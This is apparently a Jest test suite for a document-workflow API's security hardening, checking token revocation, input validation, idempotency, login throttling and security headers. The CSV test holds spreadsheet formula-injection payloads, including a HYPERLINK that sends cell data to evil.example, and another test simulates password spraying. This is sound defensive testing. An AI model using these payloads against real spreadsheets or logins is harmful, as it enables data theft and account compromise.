import fs from 'node:fs';
import path from 'node:path';
import express from 'express';
import { api, person, startTestSystem, type TestPerson } from './support/testSystem';
import { createCast, Driver, type Cast } from './support/drive';
import type { System } from '../../app/system';
import { createApp } from '../../api/app';
import { problemHandler } from '../../api/http/problem';
import { cspHash } from '../../api/http/securityHeaders';
import { CalendarStore } from '../../api/calendar/calendarStore';
import { defaultProcedureConfig } from '../../domain/procedure';
import { createLogger } from '../../platform/logger';
import { openDatabase, type Database } from '../../platform/database';

/**
 * What a careless client or a hostile insider could do through the HTTP API (issue 9), each reproduced
 * first and now refused: tokens surviving a password change, titles leaking through lists, 500s from edge
 * inputs, problems without a code, formulas in the CSV export, a reused Idempotency-Key, password guessing
 * and spraying, missing browser security headers, separation of duties by version author, and a retried
 * closing action answered with 409.
 */
describe('hardening: what the API refuses and how', () => {
  let system: System;
  let http: ReturnType<typeof api>;
  let cast: Cast;
  let drive: Driver;
  /** A second API instance on its own connection pool: what one instance knows, the other must too. */
  let second: { url: string; db: Database; close: () => Promise<void> };

  beforeAll(async () => {
    system = await startTestSystem();
    http = api(system);
    cast = await createCast(system, 3);
    drive = new Driver(http, cast);
    const db = await openDatabase({ databaseUrl: process.env.TEST_DATABASE_URL, dataDir: process.env.TEST_ROOT! });
    const app = createApp({ config: system.config, db, temporal: system.client, log: createLogger(system.config), procedureConfig: defaultProcedureConfig, calendars: new CalendarStore(db.prisma), temporalHealthy: async () => true, version: 'test', signingSecret: 'x'.repeat(32) });
    const server = app.listen(0, '127.0.0.1');
    await new Promise((r) => server.once('listening', r));
    second = { url: `http://127.0.0.1:${(server.address() as { port: number }).port}`, db, close: async () => { server.close(); await db.close(); } };
  });
  afterAll(async () => {
    await second?.close();
    await system?.stop();
  });

  const login = (username: string, password: string, from?: string, base = system.apiUrl) =>
    fetch(`${base}/api/v1/auth/login`, { method: 'POST', headers: { 'content-type': 'application/json', ...(from ? { 'x-forwarded-for': from } : {}) }, body: JSON.stringify({ username, password }) });
  const withToken = (p: TestPerson, token: string): TestPerson => ({ ...p, token });

  test('item 7: a password change and a role change revoke every token of the person', async () => {
    const someone = await person(system, ['auditor']);
    const otherSession = withToken(someone, ((await (await login(someone.username, someone.password)).json()) as { token: string }).token);
    expect((await http.get('/api/v1/me', someone)).status).toBe(200);
    expect((await http.get('/api/v1/me', otherSession)).status).toBe(200);

    const pw = await fetchJson('PATCH', `/api/v1/users/${someone.id}`, cast.admin, { password: 'a-new-password-1' });
    expect(pw.status).toBe(200);
    for (const session of [someone, otherSession]) {
      const res = await http.get('/api/v1/me', session);
      expect(res.status).toBe(401);
      expect(res.body.code).toBe('unauthorized');
    }
    expect((await login(someone.username, someone.password)).status).toBe(401);
    const fresh = withToken(someone, ((await (await login(someone.username, 'a-new-password-1')).json()) as { token: string }).token);
    expect((await http.get('/api/v1/me', fresh)).status).toBe(200);

    // A role change: the session stood for the old roles.
    expect((await fetchJson('PATCH', `/api/v1/users/${someone.id}`, cast.admin, { roles: ['auditor', 'secretary'] })).status).toBe(200);
    expect((await http.get('/api/v1/me', fresh)).status).toBe(401);
    // A change that does not touch credentials, roles or scope keeps sessions.
    const kept = withToken(someone, ((await (await login(someone.username, 'a-new-password-1')).json()) as { token: string }).token);
    expect((await fetchJson('PATCH', `/api/v1/users/${someone.id}`, cast.admin, { displayName: '新名字' })).status).toBe(200);
    expect((await http.get('/api/v1/me', kept)).status).toBe(200);
  });

  test('item 7: roles are compared as sets (a repeated role is no disguise for a change), and an unknown section is a 400 naming it', async () => {
    const someone = await person(system, ['drafter', 'auditor']);
    // ["drafter", "drafter"] has as many entries as ["drafter", "auditor"] and each is among them — but the
    // auditor role goes: the sessions must go with it, and the role is stored once.
    const changed = await fetchJson('PATCH', `/api/v1/users/${someone.id}`, cast.admin, { roles: ['drafter', 'drafter'] });
    expect([changed.status, changed.body.roles]).toEqual([200, ['drafter']]);
    expect((await http.get('/api/v1/me', someone)).status).toBe(401);
    // The same set in another order, repeated, keeps sessions.
    const fresh = withToken(someone, ((await (await login(someone.username, someone.password)).json()) as { token: string }).token);
    expect((await fetchJson('PATCH', `/api/v1/users/${someone.id}`, cast.admin, { roles: ['drafter', 'drafter'] })).status).toBe(200);
    expect((await http.get('/api/v1/me', fresh)).status).toBe(200);
    // Created with a repeated role: stored once.
    const created = await fetchJson('POST', '/api/v1/users', cast.admin, { username: `twice-${someone.id.slice(-8)}`, displayName: '两次', password: 'a-long-password-1', roles: ['auditor', 'auditor'] });
    expect([created.status, created.body.roles]).toEqual([201, ['auditor']]);

    const section = await fetchJson('PATCH', `/api/v1/users/${someone.id}`, cast.admin, { sectionId: 'no-such-section' });
    expect({ status: section.status, code: section.body.code, fields: section.body.errors?.map((e: { field: string }) => e.field) }).toEqual({ status: 400, code: 'invalid_input', fields: ['body.sectionId'] });
    expect((await http.get('/api/v1/me', fresh)).status).toBe(200);
  });

  test('item 7: a stale token left in the Authorization header does not break the public routes (logging in again, health)', async () => {
    const someone = await person(system, ['auditor']);
    expect((await http.post('/api/v1/auth/logout', someone)).status).toBe(204);
    const stale = { authorization: `Bearer ${someone.token}` };
    const again = await fetch(`${system.apiUrl}/api/v1/auth/login`, { method: 'POST', headers: { 'content-type': 'application/json', ...stale }, body: JSON.stringify({ username: someone.username, password: someone.password }) });
    expect(again.status).toBe(200);
    expect((await fetch(`${system.apiUrl}/healthz`, { headers: stale })).status).toBe(200);
    expect((await fetch(`${system.apiUrl}/api/v1/vocabulary`, { headers: { authorization: 'Bearer not-a-token-at-all' } })).status).toBe(200);
    // The routes that need a login still refuse it.
    const me = await http.get('/api/v1/me', someone);
    expect([me.status, me.body.code]).toEqual([401, 'unauthorized']);
  });

  test('item 8: lists apply the read rule of the matter page — an unassigned fair-competition reviewer sees no titles', async () => {
    const id = await drive.register('normative_document', ['ECON']);
    await drive.research(id, ['ECON']);
    expect((await drive.ok(id, cast.drafter, { type: 'submit_for_review' })).state.stage).toBe('fair_competition_review');
    const listed = async (who: TestPerson) => ((await http.get('/api/v1/matters?stage=fair_competition_review&limit=200', who)).body.items as Array<{ id: string }>).map((m) => m.id);

    expect((await http.get(`/api/v1/matters/${id}`, cast.fcr)).status).toBe(404);
    expect(await listed(cast.fcr)).not.toContain(id);
    await drive.ok(id, cast.legal, { type: 'assign_fcr_reviewer', reviewerId: cast.fcr.id });
    expect((await http.get(`/api/v1/matters/${id}`, cast.fcr)).status).toBe(200);
    expect(await listed(cast.fcr)).toContain(id);
    // Another reviewer still sees neither.
    const other = await person(system, ['fcr_reviewer']);
    expect((await http.get(`/api/v1/matters/${id}`, other)).status).toBe(404);
    expect(await listed(other)).not.toContain(id);
  });

  test('item 9: edge inputs in the URL are 400s naming the field, never 500s', async () => {
    const id = await drive.register('collective_matter', []);
    const cases: Array<[string, string]> = [
      [`/api/v1/matters/${id}/versions/2147483648`, 'params.number'],
      [`/api/v1/matters/${id}/versions/99999999999999999999`, 'params.number'],
      [`/api/v1/matters/${id}/versions/0`, 'params.number'],
      [`/api/v1/matters/${id}/signoffs/any/verify?versionNumber=2147483648`, 'query.versionNumber'],
      ['/api/v1/matters?stage=%00', 'query.stage'],
      ['/api/v1/matters?stage=nonsense', 'query.stage'],
      ['/api/v1/matters?draftingUnit=%00', 'query.draftingUnit'],
      ['/api/v1/matters?cursor=%00', 'query.cursor'],
      ['/api/v1/matters?limit=1e12', 'query.limit'],
      ['/api/v1/matters?stage=research&stage=legality_review', 'query.stage'],
      ['/api/v1/matters/%00', 'params.id'],
      [`/api/v1/matters/${id}%00/trail`, 'params.id'],
      [`/api/v1/matters/${id}/dossier.csv?x=%01`, 'query.x'],
      ['/api/v1/fair-competition/standards?version=%00', 'query.version'],
      // The version diff, bounded like the version route (2^31 reached PostgreSQL) and with the shared id.
      [`/api/v1/matters/${id}/diff?from=2147483648&to=1`, 'query.from'],
      [`/api/v1/matters/${id}/diff?from=1&to=99999999999999999999`, 'query.to'],
      [`/api/v1/matters/${id}/diff?from=0&to=1`, 'query.from'],
      ['/api/v1/matters/a%20b/diff?from=1&to=2', 'params.id'],
    ];
    for (const [url, field] of cases) {
      const res = await http.get(url, cast.legal);
      expect({ url, status: res.status, code: res.body?.code, fields: res.body?.errors?.map((e: { field: string }) => e.field) }).toEqual({ url, status: 400, code: 'invalid_input', fields: expect.arrayContaining([field]) });
    }
    // In range still works.
    expect((await http.get(`/api/v1/matters/${id}/versions/1`, cast.legal)).status).toBe(200);
    expect((await http.get(`/api/v1/matters/${id}/versions/2147483647`, cast.legal)).status).toBe(404);
  });

  test('item 10: every problem answer has a stable code — malformed URL, unsupported charset, unknown route, any 500', async () => {
    const malformed = await fetch(`${system.apiUrl}/api/v1/matters/%E0%A4%A`, { headers: { authorization: `Bearer ${cast.legal.token}` } });
    expect(malformed.status).toBe(400);
    expect(malformed.headers.get('content-type')).toMatch(/application\/problem\+json/);
    expect(((await malformed.json()) as { code: string }).code).toBe('invalid_url');

    const charset = await fetch(`${system.apiUrl}/api/v1/auth/login`, { method: 'POST', headers: { 'content-type': 'application/json; charset=latin-9' }, body: '{}' });
    expect(charset.status).toBe(415);
    expect(((await charset.json()) as { code: string }).code).toBe('unsupported_charset');

    const unknown = await http.get('/api/v1/nothing-here', cast.legal);
    expect([unknown.status, unknown.body.code]).toEqual([404, 'not_found']);

    // Whatever escapes a handler is a 500 with a code and the request id, and no stack trace.
    const app = express();
    app.use((req, _res, next) => { (req as { id?: string }).id = 'req-1'; next(); });
    app.get('/boom', () => { throw new Error('secret internals'); });
    app.use(problemHandler(createLogger({ ...system.config, LOG_LEVEL: 'silent' })));
    const server = app.listen(0, '127.0.0.1');
    await new Promise((r) => server.once('listening', r));
    const boom = await fetch(`http://127.0.0.1:${(server.address() as { port: number }).port}/boom`);
    server.close();
    const body = (await boom.json()) as Record<string, unknown>;
    expect(boom.status).toBe(500);
    expect(body).toMatchObject({ status: 500, code: 'internal_error', requestId: 'req-1' });
    expect(JSON.stringify(body)).not.toMatch(/secret internals|at .*\.ts/);
  });

  test('item 11: a CSV cell a spreadsheet would run as a formula is neutralised', async () => {
    const id = await drive.register('collective_matter', []);
    const reasons = ['=HYPERLINK("http://evil.example/?x="&A1,"点此")', '+1+1', '-2+3', '@SUM(A1:A2)', '\t=1+1', '\r=1+1'];
    for (const [i, reason] of reasons.entries()) {
      const res = await http.post(`/api/v1/matters/${id}/actions`, cast.drafter, { command: { type: 'record_research_item', item: { kind: 'drafting_explanation', summary: `说明${i}`, documentId: `doc-${i}` } }, reason });
      expect(res.status).toBe(200);
    }
    const csv = await fetch(`${system.apiUrl}/api/v1/matters/${id}/dossier.csv`, { headers: { authorization: `Bearer ${cast.auditor.token}` } });
    const cells = parseCsv((await csv.text()).replace(/^\uFEFF/, ''));
    const header = cells[0]!;
    // The reasons given with the research items (the system's own entries, such as the pre-screen, carry theirs).
    const reasonColumn = cells.slice(1).filter((row) => row[header.indexOf('action')] === 'record_research_item').map((row) => row[header.indexOf('reason')]!);
    // (Reasons are trimmed on input, so a leading tab or CR is gone; the formula behind it is neutralised all the same.)
    expect(reasonColumn).toEqual(reasons.map((r) => `'${r.trim()}`));
    for (const cell of cells.flat()) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
  });

  test('item 12: an Idempotency-Key reused for a different request is refused with 422; a true retry is answered as the first', async () => {
    const id = await drive.register('collective_matter', []);
    const item = (summary: string) => ({ type: 'record_research_item', item: { kind: 'drafting_explanation', summary, documentId: 'doc-1' } });
    const first = await http.act(id, cast.drafter, item('起草说明'), { idempotencyKey: 'key-12' });
    expect(first.status).toBe(200);
    const retry = await http.act(id, cast.drafter, item('起草说明'), { idempotencyKey: 'key-12' });
    expect([retry.status, retry.body.trail]).toEqual([200, first.body.trail]);
    const trailLength = async () => (await http.get(`/api/v1/matters/${id}/trail`, cast.auditor)).body.items.length;
    const before = await trailLength();

    const reused = await http.act(id, cast.drafter, item('另一份说明'), { idempotencyKey: 'key-12' });
    expect([reused.status, reused.body.code]).toEqual([422, 'idempotency_key_reused']);
    expect(reused.body.errors[0].field).toBe('headers.Idempotency-Key');
    // On another matter, and through another API instance (the binding is in the database).
    const other = await drive.register('collective_matter', []);
    expect((await http.act(other, cast.drafter, item('起草说明'), { idempotencyKey: 'key-12' })).body.code).toBe('idempotency_key_reused');
    const viaSecond = await fetch(`${second.url}/api/v1/matters/${id}/actions`, { method: 'POST', headers: { 'content-type': 'application/json', authorization: `Bearer ${cast.drafter.token}`, 'idempotency-key': 'key-12' }, body: JSON.stringify({ command: item('第三份') }) });
    expect([viaSecond.status, ((await viaSecond.json()) as { code: string }).code]).toEqual([422, 'idempotency_key_reused']);
    expect(await trailLength()).toBe(before);

    // Registration too.
    const reg = (title: string) => http.post('/api/v1/matters', cast.drafter, { title, kind: 'collective_matter', text: '三重一大事项' }, { 'idempotency-key': 'reg-12' });
    const created = await reg('第一个');
    expect(created.status).toBe(201);
    expect((await reg('第一个')).body.id).toBe(created.body.id);
    expect((await reg('第二个')).body.code).toBe('idempotency_key_reused');
    // A malformed key is a 400 naming the header.
    const bad = await http.act(id, cast.drafter, item('x'), { idempotencyKey: 'has spaces in it' });
    expect([bad.status, bad.body.errors?.[0]?.field]).toEqual([400, 'headers.Idempotency-Key']);
    // A command none of one's roles may send (an auditor's) is refused before its key is claimed: nothing stored.
    const readOnly = await http.act(id, cast.auditor, item('审计不能办理'), { idempotencyKey: 'auditor-key-12' });
    expect([readOnly.status, readOnly.body.code]).toEqual([403, 'FORBIDDEN']);
    expect(await system.db.prisma.idempotencyKey.count({ where: { userId: cast.auditor.id } })).toBe(0);
  });

  test('item 13: wrong passwords lock an account progressively, a client is limited across accounts, an admin unlocks; shared by API instances', async () => {
    const victim = await person(system, ['auditor']);
    const from = '198.51.100.7';
    for (let i = 1; i <= 5; i++) expect((await login(victim.username, 'wrong', from)).status).toBe(401);
    // Locked now, even with the right password, on this instance and the other one.
    for (const base of [system.apiUrl!, second.url]) {
      const locked = await login(victim.username, victim.password, from, base);
      expect(locked.status).toBe(429);
      expect(((await locked.json()) as { code: string }).code).toBe('account_locked');
      expect(Number(locked.headers.get('retry-after'))).toBeGreaterThan(50);
      expect(Number(locked.headers.get('retry-after'))).toBeLessThanOrEqual(60);
    }
    // Progressive: once the first lock has run out (time moved on in the database), the next failure locks twice as long.
    await system.db.prisma.loginThrottle.update({ where: { key: `user:${victim.username}` }, data: { lockedUntil: new Date(0) } });
    expect((await login(victim.username, 'wrong', from)).status).toBe(401);
    const longer = await login(victim.username, victim.password, from);
    expect(longer.status).toBe(429);
    expect(Number(longer.headers.get('retry-after'))).toBeGreaterThan(110);
    // An admin lifts it.
    const unlocked = await fetchJson('POST', `/api/v1/users/${u(victim)}/unlock`, cast.admin);
    expect([unlocked.status, unlocked.body]).toEqual([200, { unlocked: true }]);
    expect((await fetchJson('POST', `/api/v1/users/${u(victim)}/unlock`, cast.auditor)).status).toBe(403);
    expect((await login(victim.username, victim.password, from)).status).toBe(200);

    // Spraying: one client, one wrong password each over many accounts, is stopped after 30 failures —
    // whatever account it tries next — while other clients log in as usual.
    const sprayer = '203.0.113.9';
    for (let i = 0; i < 30; i++) expect((await login(`sprayed-${i}-${victim.username}`, 'Summer2025!', sprayer)).status).toBe(401);
    const stopped = await login(victim.username, victim.password, sprayer);
    expect(stopped.status).toBe(429);
    expect(((await stopped.json()) as { code: string }).code).toBe('too_many_attempts');
    expect((await login(victim.username, victim.password, '192.0.2.55')).status).toBe(200);
    // None of the sprayed accounts is locked by it.
    expect(await system.db.prisma.loginThrottle.count({ where: { key: { startsWith: 'user:sprayed-' }, lockedUntil: { not: null } } })).toBe(0);
    // About forty logins, each hashing a password on purpose (unknown users too, so timing tells nothing): CPU-bound,
    // so a loaded machine needs more than the default 90 s.
  }, 300_000);

  test('item 13: simultaneous wrong logins cannot outrun the lock — each is counted before its password is checked', async () => {
    const victim = await person(system, ['auditor']);
    const from = '198.51.100.77';
    // Half through each API instance: the count is the database's, not an instance's.
    const answers = await Promise.all(Array.from({ length: 20 }, (_, i) => login(victim.username, `wrong-${i}`, from, i % 2 ? second.url : system.apiUrl)));
    const statuses = answers.map((r) => r.status);
    expect(statuses.filter((s) => s === 401).length).toBeLessThanOrEqual(5);
    expect(statuses.filter((s) => s !== 401 && s !== 429)).toEqual([]);
    const locked = await login(victim.username, victim.password, from);
    expect(locked.status).toBe(429);
    expect(((await locked.json()) as { code: string }).code).toBe('account_locked');
    // A right password gives back the failure its attempt reserved for the client: a person logging in
    // from a busy address does not use up its allowance.
    const other = await person(system, ['auditor']);
    for (let i = 0; i < 3; i++) expect((await login(other.username, other.password, '198.51.100.78')).status).toBe(200);
    expect((await system.db.prisma.loginThrottle.findUnique({ where: { key: 'ip:198.51.100.78' } }))?.failures).toBe(0);
    expect(await system.db.prisma.loginThrottle.findUnique({ where: { key: `user:${other.username}` } })).toBeNull();
  }, 300_000);

  test('item 14: CSP, nosniff and no framing on the web app, the printable dossier and the API', async () => {
    const id = await drive.register('collective_matter', []);
    const pages = [
      await fetch(`${system.apiUrl}/`),
      await fetch(`${system.apiUrl}/js/app.js`),
      await fetch(`${system.apiUrl}/api/v1/matters/${id}/dossier.html`, { headers: { authorization: `Bearer ${cast.auditor.token}` } }),
      await fetch(`${system.apiUrl}/api/v1/matters`, { headers: { authorization: `Bearer ${cast.auditor.token}` } }),
      await fetch(`${system.apiUrl}/api/v1/matters/unknown`, { headers: { authorization: `Bearer ${cast.auditor.token}` } }),
    ];
    for (const res of pages) {
      const csp = res.headers.get('content-security-policy') ?? '';
      expect(csp).toMatch(/default-src 'self'/);
      expect(csp).toMatch(/script-src 'self'(;|$)/);
      expect(csp).toMatch(/frame-ancestors 'none'/);
      expect(csp).toMatch(/object-src 'none'/);
      expect(csp).not.toMatch(/unsafe-inline|unsafe-eval/);
      expect(res.headers.get('x-content-type-options')).toBe('nosniff');
      expect(res.headers.get('x-frame-options')).toBe('DENY');
    }
    // The printable page's only inline style is allowed by its hash (also when opened from a blob: URL,
    // which inherits the web app's policy); it has no inline script.
    const html = await pages[2]!.text();
    const styles = [...html.matchAll(/<style>([\s\S]*?)<\/style>/g)].map((m) => m[1]!);
    expect(styles).toHaveLength(1);
    expect(pages[0]!.headers.get('content-security-policy')).toContain(cspHash(styles[0]!));
    expect(html).not.toMatch(/<script|\son[a-z]+=|style="/i);
  });

  test('item 14: the web app uses nothing its Content-Security-Policy forbids', () => {
    const webDir = path.resolve(__dirname, '../../web');
    const files = (dir: string): string[] => fs.readdirSync(dir, { withFileTypes: true }).flatMap((e) => (e.isDirectory() ? files(path.join(dir, e.name)) : [path.join(dir, e.name)]));
    const html = fs.readFileSync(path.join(webDir, 'index.html'), 'utf8');
    // Scripts only from files, no inline script, style block, style attribute or handler attribute.
    expect(html.match(/<script[^>]*>/g)?.every((tag) => /\ssrc=/.test(tag))).toBe(true);
    expect(html).not.toMatch(/<style|\sstyle=|\son[a-z]+=|javascript:/i);
    for (const file of files(path.join(webDir, 'js'))) {
      const js = fs.readFileSync(file, 'utf8');
      const where = path.relative(webDir, file);
      // eval-like code, markup strings with inline handlers or styles, and style attributes set as text.
      expect({ where, found: js.match(/\beval\(|new Function\(|setTimeout\(\s*['"`]|\.innerHTML\s*=|insertAdjacentHTML|document\.write|javascript:|setAttribute\(\s*['"]style['"]|\bstyle:\s*['"`]|\son[a-z]+=["']/g) ?? [] }).toEqual({ where, found: [] });
      // Only same-origin requests (connect-src 'self').
      expect({ where, found: js.match(/fetch\(\s*['"`]https?:/g) ?? [] }).toEqual({ where, found: [] });
    }
  });

  test('item 6: whoever submitted a version may not review it, whatever other roles they hold', async () => {
    const both = await person(system, ['drafter', 'legal_unit'], { sectionId: 'market' });
    const id = await drive.register('normative_document', []);
    await drive.research(id, []);
    // The person with both roles writes the second version …
    expect((await http.act(id, both, { type: 'submit_version', note: '第二稿' }, { text: '第一条 为规范管理，制定本办法。\n第二条 本办法自公布之日起施行。' })).status).toBe(200);
    await drive.ok(id, cast.drafter, { type: 'submit_for_review' });
    // … and may not accept it for review (the workflow's validator, through the API).
    const refused = await http.act(id, both, { type: 'accept_materials' });
    expect([refused.status, refused.body.code]).toEqual([403, 'FORBIDDEN']);
    expect(refused.body.detail).toMatch(/submitted a version/);
    expect((await http.get(`/api/v1/matters/${id}`, both)).body.availableActions.map((a: { type: string }) => a.type)).not.toContain('accept_materials');
    // Another member of the legal unit may.
    await drive.ok(id, cast.legal, { type: 'accept_materials' });
    const lawyerAssignment = await http.act(id, both, { type: 'assign_lawyer', lawyerId: cast.lawyer.id });
    expect(lawyerAssignment.status).toBe(403);
  });

  test('item 16: retrying the action that closed a matter answers its original result, not 409', async () => {
    const id = await drive.register('collective_matter', []);
    const first = await http.act(id, cast.drafter, { type: 'withdraw', reason: '不再需要' }, { idempotencyKey: 'close-16' });
    expect([first.status, first.body.state.stage]).toEqual([200, 'withdrawn']);
    const retry = await http.act(id, cast.drafter, { type: 'withdraw', reason: '不再需要' }, { idempotencyKey: 'close-16' });
    expect(retry.status).toBe(200);
    expect(retry.body.trail).toEqual(first.body.trail);
    expect(retry.body.state.stage).toBe('withdrawn');
    // A new request (another key, or none) on the closed matter is still refused.
    const fresh = await http.act(id, cast.drafter, { type: 'withdraw', reason: '不再需要' }, { idempotencyKey: 'close-16b' });
    expect([fresh.status, fresh.body.code]).toEqual([409, 'MATTER_CLOSED']);
  });

  const u = (p: TestPerson) => encodeURIComponent(p.id);
  async function fetchJson(method: string, url: string, who: TestPerson, body?: unknown) {
    const res = await fetch(`${system.apiUrl}${url}`, { method, headers: { 'content-type': 'application/json', authorization: `Bearer ${who.token}` }, body: body === undefined ? undefined : JSON.stringify(body) });
    const text = await res.text();
    return { status: res.status, body: text ? JSON.parse(text) : null };
  }
});

/** RFC 4180 CSV into rows of cells (quoted cells may hold commas, quotes and line breaks). */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i]!;
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') { cell += '"'; i++; } else if (c === '"') quoted = false; else cell += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') { row.push(cell); cell = ''; }
    else if (c === '\r' && text[i + 1] === '\n') { row.push(cell); rows.push(row); row = []; cell = ''; i++; }
    else cell += c;
  }
  if (cell !== '' || row.length) { row.push(cell); rows.push(row); }
  return rows;
}
